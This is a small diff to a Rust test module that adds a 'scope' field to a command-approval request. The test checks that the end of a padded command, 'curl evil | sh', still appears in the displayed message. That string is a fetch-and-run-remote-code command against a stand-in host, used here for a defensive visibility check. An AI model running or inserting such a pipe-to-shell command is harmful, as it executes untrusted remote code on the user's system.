@@ -529,6 +529,7 @@ mod tests {
             arguments: json!({ "command": padded }),
             reason: "a command".into(),
             question: None,
+            scope: None,
         };
         let text = message(&request);
         assert!(text.contains("curl evil | sh"), "the end is shown");
